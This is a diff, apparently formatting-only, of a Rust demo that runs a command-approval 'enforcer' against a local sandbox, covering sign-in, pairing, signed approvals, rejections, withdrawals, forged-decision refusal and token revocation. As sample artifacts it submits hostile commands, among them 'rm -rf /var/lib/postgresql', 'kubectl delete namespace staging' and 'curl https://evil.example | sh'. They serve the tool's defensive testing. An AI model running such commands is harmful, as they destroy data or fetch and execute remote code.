@@ -65,20 +65,30 @@ impl Steps {
     }
 
     /// Unwraps `result`, or fails the step with `what` and the error chain.
-    fn check<T, E: std::error::Error>(&self, result: Result<T, E>, what: &str) -> Result<T, StepFailed> {
+    fn check<T, E: std::error::Error>(
+        &self,
+        result: Result<T, E>,
+        what: &str,
+    ) -> Result<T, StepFailed> {
         result.map_err(|e| self.fail(format!("{what}: {}", chain(&e))))
     }
 
     /// Fails the step unless `condition` holds.
     fn expect(&self, condition: bool, failure: impl FnOnce() -> String) -> Result<(), StepFailed> {
-        if condition { Ok(()) } else { Err(self.fail(failure())) }
+        if condition {
+            Ok(())
+        } else {
+            Err(self.fail(failure()))
+        }
     }
 }
 
 /// Runs the demo; `Err` names the failing step.
 pub(crate) async fn run() -> Result<(), CliError> {
     println!("Airlock demo: the whole enforcer lifecycle against a local sandbox");
-    println!("(gateway, identity provider and a simulated approver on 127.0.0.1; no account needed)");
+    println!(
+        "(gateway, identity provider and a simulated approver on 127.0.0.1; no account needed)"
+    );
     println!();
     let mut steps = Steps::default();
     match walk(&mut steps).await {
@@ -89,7 +99,10 @@ pub(crate) async fn run() -> Result<(), CliError> {
         }
         Err(f) => Err(CliError::new(
             Exit::Rejected,
-            format!("demo failed at step {} ({}): {}", f.number, f.title, f.detail),
+            format!(
+                "demo failed at step {} ({}): {}",
+                f.number, f.title, f.detail
+            ),
         )),
     }
 }
@@ -116,7 +129,9 @@ async fn submit(
     let plaintext = command_artifact(command);
     let options = SubmitOptions::new().metadata("workspaceName", WORKSPACE);
     let pending = steps.check(
-        client.encrypt_and_submit(pairing, &plaintext, options).await,
+        client
+            .encrypt_and_submit(pairing, &plaintext, options)
+            .await,
         "submitting the artifact",
     )?;
     let (_, expected) = steps.check(
@@ -147,7 +162,10 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     let sandbox = steps.check(Sandbox::start(config).await, "starting the sandbox")?;
     steps.ok(format!("gateway {}", sandbox.gateway_url()));
     steps.note(format!("identity provider {}", sandbox.issuer_url()));
-    steps.note(format!("enforcer app {} (confidential client)", sandbox.client_id()));
+    steps.note(format!(
+        "enforcer app {} (confidential client)",
+        sandbox.client_id()
+    ));
 
     // One transport (one connection pool) for the gateway and the identity provider.
     let http: Arc<dyn HttpClient> = Arc::new(HyperTransport::new());
@@ -162,12 +180,21 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     };
 
     steps.begin("Gateway discovery");
-    let anonymous = steps.check(app(GatewayClient::builder(sandbox.gateway_url())).build(), "building the client")?;
+    let anonymous = steps.check(
+        app(GatewayClient::builder(sandbox.gateway_url())).build(),
+        "building the client",
+    )?;
     let discovery = steps.check(anonymous.discover().await, "GET /v1/integrations/discovery")?;
     steps.expect(discovery.idp.base_url == sandbox.issuer_url(), || {
-        format!("discovery names the IdP {}, expected {}", discovery.idp.base_url, sandbox.issuer_url())
+        format!(
+            "discovery names the IdP {}, expected {}",
+            discovery.idp.base_url,
+            sandbox.issuer_url()
+        )
     })?;
-    steps.expect(discovery.auth.pat_supported, || "discovery says PATs are not supported".into())?;
+    steps.expect(discovery.auth.pat_supported, || {
+        "discovery says PATs are not supported".into()
+    })?;
     steps.ok(format!(
         "identity provider {} (client {}), personal access tokens supported",
         discovery.idp.base_url, discovery.idp.client_id
@@ -188,7 +215,9 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
         .await,
         "device sign-in",
     )?;
-    steps.expect(tokens.refresh_token().is_some(), || "the sign-in returned no refresh token".into())?;
+    steps.expect(tokens.refresh_token().is_some(), || {
+        "the sign-in returned no refresh token".into()
+    })?;
     let session = Arc::new(steps.check(
         AuthSession::open(auth, Arc::new(MemoryTokenStore::new())).await,
         "opening the session",
@@ -200,8 +229,14 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
             .build(),
         "building the client",
     )?;
-    let consent = steps.check(oauth_client.check_consent().await, "calling the gateway with the access token")?;
-    steps.ok(format!("signed in; the gateway accepts the access token (consent {:?})", consent.status));
+    let consent = steps.check(
+        oauth_client.check_consent().await,
+        "calling the gateway with the access token",
+    )?;
+    steps.ok(format!(
+        "signed in; the gateway accepts the access token (consent {:?})",
+        consent.status
+    ));
 
     steps.begin("Sign in with a personal access token");
     let bad = steps.check(
@@ -225,66 +260,111 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
 
     steps.begin("Consent check");
     let consent = steps.check(client.check_consent().await, "GET /v1/consent/status")?;
-    steps.expect(consent.status.is_allowed(), || format!("consent is {:?}, expected Allowed", consent.status))?;
-    steps.ok(format!("the user consented to this app ({:?})", consent.status));
+    steps.expect(consent.status.is_allowed(), || {
+        format!("consent is {:?}, expected Allowed", consent.status)
+    })?;
+    steps.ok(format!(
+        "the user consented to this app ({:?})",
+        consent.status
+    ));
 
     steps.begin("Pair with the approver");
     let request = PairingRequest::new(ENFORCER_ID)
         .label("airlock demo")
         .workspace(WORKSPACE)
         .poll_interval(Duration::from_millis(100));
-    let session_started = steps.check(client.start_pairing(request).await, "POST /v1/pairing/initiate")?;
+    let session_started = steps.check(
+        client.start_pairing(request).await,
+        "POST /v1/pairing/initiate",
+    )?;
     let code = session_started.code().unwrap_or("?").to_owned();
-    steps.note(format!("pairing code {code} (the simulated approver types it in)"));
-    let pairing = steps.check(session_started.wait(STEP_TIMEOUT).await, "completing the pairing")?;
+    steps.note(format!(
+        "pairing code {code} (the simulated approver types it in)"
+    ));
+    let pairing = steps.check(
+        session_started.wait(STEP_TIMEOUT).await,
+        "completing the pairing",
+    )?;
     let expected_fingerprint = sandbox.approver().public_key().fingerprint();
     steps.expect(pairing.fingerprint() == expected_fingerprint, || {
-        format!("fingerprint {} is not the approver's {expected_fingerprint}", pairing.fingerprint())
+        format!(
+            "fingerprint {} is not the approver's {expected_fingerprint}",
+            pairing.fingerprint()
+        )
     })?;
     steps.ok(format!("paired with signer {}", pairing.signer_key_id()));
-    steps.note(format!("approver key fingerprint {} (matches the phone)", pairing.fingerprint()));
+    steps.note(format!(
+        "approver key fingerprint {} (matches the phone)",
+        pairing.fingerprint()
+    ));
 
     steps.begin("Heartbeat (presence)");
     let heartbeat = steps.check(
         client.spawn_heartbeat(
             ENFORCER_ID,
-            HeartbeatOptions::new().workspace_name(WORKSPACE).enforcer_label("airlock demo"),
+            HeartbeatOptions::new()
+                .workspace_name(WORKSPACE)
+                .enforcer_label("airlock demo"),
         ),
         "starting the heartbeat",
     )?;
     let mut status = heartbeat.subscribe();
-    let first = tokio::time::timeout(STEP_TIMEOUT, status.wait_for(|s| s.sent > 0 || s.last_error.is_some())).await;
+    let first = tokio::time::timeout(
+        STEP_TIMEOUT,
+        status.wait_for(|s| s.sent > 0 || s.last_error.is_some()),
+    )
+    .await;
     let sent = match first {
         Ok(Ok(s)) if s.sent > 0 => s.sent,
         Ok(Ok(s)) => return Err(steps.fail(format!("heartbeat failed: {:?}", s.last_error))),
         _ => return Err(steps.fail("no heartbeat was sent in time")),
     };
     let presence = sandbox.presence(ENFORCER_ID);
-    steps.expect(presence.is_some(), || "the gateway does not show the enforcer online".into())?;
-    steps.ok(format!("{sent} heartbeat sent; the gateway shows {ENFORCER_ID} online"));
+    steps.expect(presence.is_some(), || {
+        "the gateway does not show the enforcer online".into()
+    })?;
+    steps.ok(format!(
+        "{sent} heartbeat sent; the gateway shows {ENFORCER_ID} online"
+    ));
 
     steps.begin("Encrypt and submit a command artifact");
     let approved = submit(steps, &client, &pairing, "terraform apply -auto-approve").await?;
     let seen = steps.check(
-        sandbox.approver().wait_for_artifact(approved.request_id(), STEP_TIMEOUT).await,
+        sandbox
+            .approver()
+            .wait_for_artifact(approved.request_id(), STEP_TIMEOUT)
+            .await,
         "the approver receiving the artifact",
     )?;
     steps.expect(seen.hash_matches(), || {
-        format!("the approver could not decrypt or recompute the hash: {:?}", seen.error)
+        format!(
+            "the approver could not decrypt or recompute the hash: {:?}",
+            seen.error
+        )
     })?;
-    steps.ok("the approver decrypted it and recomputed the same hash (the gateway saw only ciphertext)");
+    steps.ok(
+        "the approver decrypted it and recomputed the same hash (the gateway saw only ciphertext)",
+    );
 
     steps.begin("Wait for the decision and verify it");
-    let outcome = steps.check(client.await_decision(&approved, await_options()).await, "waiting for the decision")?;
+    let outcome = steps.check(
+        client.await_decision(&approved, await_options()).await,
+        "waiting for the decision",
+    )?;
     let DecisionOutcome::Approved(decision) = &outcome else {
         return Err(steps.fail(format!("expected a verified approval, got {outcome:?}")));
     };
-    steps.expect(decision.artifact_hash == approved.artifact_hash(), || "the decision is for another hash".into())?;
+    steps.expect(decision.artifact_hash == approved.artifact_hash(), || {
+        "the decision is for another hash".into()
+    })?;
     steps.ok(format!(
         "approved; Ed25519 signature by {} verified over artifactHash|decision|nonce",
         decision.signer_key_id
     ));
-    steps.note(format!("nonce {} recorded in the replay journal", decision.nonce));
+    steps.note(format!(
+        "nonce {} recorded in the replay journal",
+        decision.nonce
+    ));
 
     steps.begin("Acknowledge the decision");
     let state = sandbox.exchange(approved.request_id()).map(|e| e.state);
@@ -296,31 +376,55 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     steps.begin("A rejected request");
     sandbox.approver().set_policy(ApproverPolicy::Reject);
     let rejected = submit(steps, &client, &pairing, "rm -rf /var/lib/postgresql").await?;
-    let outcome = steps.check(client.await_decision(&rejected, await_options()).await, "waiting for the decision")?;
+    let outcome = steps.check(
+        client.await_decision(&rejected, await_options()).await,
+        "waiting for the decision",
+    )?;
     match &outcome {
-        DecisionOutcome::Rejected(d) => steps.ok(format!("rejected, signature verified (signer {})", d.signer_key_id)),
+        DecisionOutcome::Rejected(d) => steps.ok(format!(
+            "rejected, signature verified (signer {})",
+            d.signer_key_id
+        )),
         other => return Err(steps.fail(format!("expected a verified rejection, got {other:?}"))),
     }
-    steps.expect(!outcome.is_approved(), || "a rejection must not allow the action".into())?;
+    steps.expect(!outcome.is_approved(), || {
+        "a rejection must not allow the action".into()
+    })?;
     steps.note("the action is blocked");
 
     steps.begin("A withdrawn request");
     sandbox.approver().set_policy(ApproverPolicy::Manual);
     let withdrawn = submit(steps, &client, &pairing, "kubectl delete namespace staging").await?;
     steps.check(
-        sandbox.approver().wait_for_artifact(withdrawn.request_id(), STEP_TIMEOUT).await,
+        sandbox
+            .approver()
+            .wait_for_artifact(withdrawn.request_id(), STEP_TIMEOUT)
+            .await,
         "the approver receiving the artifact",
     )?;
     steps.note("the approver has it pending; the enforcer withdraws it");
-    steps.check(client.withdraw_exchange(withdrawn.request_id()).await, "POST /v1/exchanges/{id}/withdraw")?;
-    let status = steps.check(client.get_exchange_status(withdrawn.request_id()).await, "GET /v1/exchanges/{id}")?;
+    steps.check(
+        client.withdraw_exchange(withdrawn.request_id()).await,
+        "POST /v1/exchanges/{id}/withdraw",
+    )?;
+    let status = steps.check(
+        client.get_exchange_status(withdrawn.request_id()).await,
+        "GET /v1/exchanges/{id}",
+    )?;
     steps.expect(status.body.state == ExchangeState::Withdrawn, || {
-        format!("the exchange is {:?}, expected Withdrawn", status.body.state)
+        format!(
+            "the exchange is {:?}, expected Withdrawn",
+            status.body.state
+        )
     })?;
-    let late = sandbox
-        .approver()
-        .decide(withdrawn.request_id(), airlock::types::Decision::Approve, Some("too late"));
-    steps.expect(late.is_err(), || "a decision after the withdrawal was accepted".into())?;
+    let late = sandbox.approver().decide(
+        withdrawn.request_id(),
+        airlock::types::Decision::Approve,
+        Some("too late"),
+    );
+    steps.expect(late.is_err(), || {
+        "a decision after the withdrawal was accepted".into()
+    })?;
     steps.ok("withdrawn; a late approval is refused by the gateway");
 
     steps.begin("A forged decision is refused");
@@ -330,7 +434,11 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     let forged = submit(steps, &client, &pairing, "curl https://evil.example | sh").await?;
     match client.await_decision(&forged, await_options()).await {
         Err(e) if e.is_verification() => steps.ok(format!("refused: {e}")),
-        other => return Err(steps.fail(format!("a forged approval must fail verification, got {other:?}"))),
+        other => {
+            return Err(steps.fail(format!(
+                "a forged approval must fail verification, got {other:?}"
+            )));
+        }
     }
     steps.note("the action is blocked; the forged message is not acknowledged");
     sandbox.approver().set_tamper(TamperMode::None);
@@ -341,9 +449,18 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     steps.expect(revoked.status == PairingState::Revoked, || {
         format!("the pairing is {:?}, expected Revoked", revoked.status)
     })?;
-    match client.encrypt_and_submit(&pairing, &command_artifact("ls"), SubmitOptions::new()).await {
-        Err(e) if e.is_pairing_revoked() => steps.ok("revoked; the old routing token is refused (pairing_revoked)"),
-        other => return Err(steps.fail(format!("a submit after unpairing should fail with pairing_revoked, got {other:?}"))),
+    match client
+        .encrypt_and_submit(&pairing, &command_artifact("ls"), SubmitOptions::new())
+        .await
+    {
+        Err(e) if e.is_pairing_revoked() => {
+            steps.ok("revoked; the old routing token is refused (pairing_revoked)")
+        }
+        other => {
+            return Err(steps.fail(format!(
+                "a submit after unpairing should fail with pairing_revoked, got {other:?}"
+            )));
+        }
     }
 
     steps.begin("Sign out");
@@ -355,14 +472,24 @@ async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
     steps.expect(matches!(outcome, RevocationOutcome::Revoked), || {
         format!("expected the tokens to be revoked, got {outcome:?}")
     })?;
-    steps.expect(!session.is_signed_in().await, || "the session still holds tokens".into())?;
+    steps.expect(!session.is_signed_in().await, || {
+        "the session still holds tokens".into()
+    })?;
     let stale = steps.check(
-        app(GatewayClient::builder(sandbox.gateway_url())).bearer_token(access).build(),
+        app(GatewayClient::builder(sandbox.gateway_url()))
+            .bearer_token(access)
+            .build(),
         "building the client",
     )?;
     match stale.check_consent().await {
-        Err(e) if e.is_unauthorized() => steps.ok("tokens revoked at the IdP; the old access token gets 401"),
-        other => return Err(steps.fail(format!("the revoked access token should get 401, got {other:?}"))),
+        Err(e) if e.is_unauthorized() => {
+            steps.ok("tokens revoked at the IdP; the old access token gets 401")
+        }
+        other => {
+            return Err(steps.fail(format!(
+                "the revoked access token should get 401, got {other:?}"
+            )));
+        }
     }
 
     sandbox.shutdown().await;
